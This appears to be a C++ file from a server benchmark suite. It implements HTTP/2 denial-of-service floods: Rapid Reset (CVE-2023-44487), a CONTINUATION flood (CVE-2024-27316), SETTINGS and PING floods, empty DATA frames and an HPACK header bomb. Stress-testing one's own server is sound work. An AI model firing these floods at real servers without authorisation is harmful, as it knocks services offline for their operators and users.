// Floods of HTTP/2 frames, written by hand (RFC 9113 §4.1) and prepared as one block that is sent over and
// over. Nothing is acknowledged and no window is kept: what comes back is read and dropped.
#include <array>
#include <cstring>
#include <string>
#include <vector>

#include "bench/load/attack/families.h"
#include "bench/load/attack/slot.h"
#include "bench/load/attack/tally.h"

namespace hawser::bench::attack {
namespace {

constexpr size_t kRunBytes = 16 * 1024;  // of one send, unless a single unit is longer

enum class Type : uint8_t {
  kData = 0,
  kHeaders = 1,
  kReset = 3,
  kSettings = 4,
  kPing = 6,
  kContinuation = 9
};
constexpr uint8_t kEndStream = 1;
constexpr uint8_t kEndHeaders = 4;

std::string BigEndian(uint32_t value, int bytes) {
  std::string text;
  for (int shift = 8 * (bytes - 1); shift >= 0; shift -= 8) text += static_cast<char>(value >> shift);
  return text;
}

std::string Frame(Type type, uint8_t flags, uint32_t stream, std::string_view payload) {
  return BigEndian(static_cast<uint32_t>(payload.size()), 3) + static_cast<char>(type) +
         static_cast<char>(flags) + BigEndian(stream, 4) + std::string(payload);
}

// A value's length and bytes (RFC 7541 §5.2), up to 4,221 of them.
std::string Literal(std::string_view value) {
  const size_t size = value.size();
  if (size < 127) return static_cast<char>(size) + std::string(value);
  const size_t more = size - 127;
  std::string text = "\x7f";
  if (more >= 128) text += static_cast<char>(0x80 | (more & 0x7f));
  text += static_cast<char>(more >= 128 ? more >> 7 : more);
  return text + std::string(value);
}

// :method, :scheme, :path and :authority, by their indices in the static table (RFC 7541, appendix A).
std::string RequestFields(const AttackOptions& options, bool get = true) {
  return std::string(get ? "\x82" : "\x83") + (options.tls ? "\x87" : "\x86") + "\x04" +
         Literal(options.path) + "\x01" + Literal(options.host);
}

class FrameFlood : public Attack {
 public:
  // `opening` once, behind the preface; then `unit`, one frame or several, over and over. Where
  // `opens_streams` each unit is on a stream of its own, and `opening` has none.
  FrameFlood(const std::string& opening, const std::string& unit, bool opens_streams);

  void OnConnected(Slot& slot) override;
  void OnWritable(Slot& slot) override;

 private:
  void NumberStreams(uint32_t first);

  struct Place {
    size_t at;         // of a stream identifier in the block
    uint32_t further;  // than the block's first stream
  };

  const std::string opening_;
  const size_t unit_bytes_;
  std::string block_;
  std::vector<Place> places_;
  uint32_t streams_ = 0;  // that a block opens
};

FrameFlood::FrameFlood(const std::string& opening, const std::string& unit, bool opens_streams)
    : opening_("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(Type::kSettings, 0, 0, "") + opening),
      unit_bytes_(unit.size()) {
  do {
    for (size_t at = 0; opens_streams && at < unit.size();) {
      places_.push_back({.at = block_.size() + at + 5, .further = 2 * streams_});
      const auto byte = [&](size_t offset) {
        return static_cast<size_t>(static_cast<uint8_t>(unit[at + offset]));
      };
      at += 9 + (byte(0) << 16 | byte(1) << 8 | byte(2));
    }
    block_ += unit;
    streams_ += opens_streams ? 1 : 0;
  } while (block_.size() + unit.size() <= kRunBytes);
}

void FrameFlood::OnConnected(Slot& slot) {
  slot.Send(std::as_bytes(std::span(opening_)));
  slot.stage = 1;
  slot.AwaitRoom();
}

// The block is shared, so it is numbered before each send: from the slot's stage on, the first stream of the
// block that is being sent.
void FrameFlood::OnWritable(Slot& slot) {
  NumberStreams(slot.stage);
  const size_t sent = slot.Send(std::as_bytes(std::span(block_)).subspan(slot.progress));
  slot.Add(Count::kUnits, (slot.progress % unit_bytes_ + sent) / unit_bytes_);
  slot.progress += sent;
  if (slot.progress < block_.size()) return;
  slot.progress = 0;
  slot.stage += 2 * streams_;
}

void FrameFlood::NumberStreams(uint32_t first) {
  for (const Place& place : places_) {
    const uint32_t stream = first + place.further;
    const std::array<uint8_t, 4> bytes = {static_cast<uint8_t>(stream >> 24 & 0x7f),
                                          static_cast<uint8_t>(stream >> 16),
                                          static_cast<uint8_t>(stream >> 8), static_cast<uint8_t>(stream)};
    std::memcpy(block_.data() + place.at, bytes.data(), bytes.size());
  }
}

}  // namespace

// CVE-2023-44487.
Made RapidResets(const AttackOptions& options) {
  constexpr uint32_t kCancel = 8;
  return std::make_unique<FrameFlood>(
      "",
      Frame(Type::kHeaders, kEndStream | kEndHeaders, 1, RequestFields(options)) +
          Frame(Type::kReset, 0, 1, BigEndian(kCancel, 4)),
      true);
}

Made Settings(const AttackOptions&) {
  return std::make_unique<FrameFlood>("", Frame(Type::kSettings, 0, 0, ""), false);
}

Made Pings(const AttackOptions&) {
  return std::make_unique<FrameFlood>("", Frame(Type::kPing, 0, 0, "12345678"), false);
}

// A head that never ends (CVE-2024-27316), by a small field in each frame.
Made Continuations(const AttackOptions& options) {
  const std::string field = std::string(1, '\0') + Literal("x-more") + Literal("and more");
  return std::make_unique<FrameFlood>(Frame(Type::kHeaders, kEndStream, 1, RequestFields(options)),
                                      Frame(Type::kContinuation, 0, 1, field), false);
}

Made EmptyData(const AttackOptions& options) {
  return std::make_unique<FrameFlood>(Frame(Type::kHeaders, kEndHeaders, 1, RequestFields(options, false)),
                                      Frame(Type::kData, 0, 1, ""), false);
}

// One field fills the dynamic table, and each of many bytes behind it is a reference to it: 40 MB of fields a
// request.
Made HeaderBomb(const AttackOptions& options) {
  const std::string field = '\x40' + Literal("x-bomb") + Literal(std::string(4000, 'x'));
  return std::make_unique<FrameFlood>("",
                                      Frame(Type::kHeaders, kEndStream | kEndHeaders, 1,
                                            RequestFields(options) + field + std::string(10'000, '\xbe')),
                                      true);
}

}  // namespace hawser::bench::attack
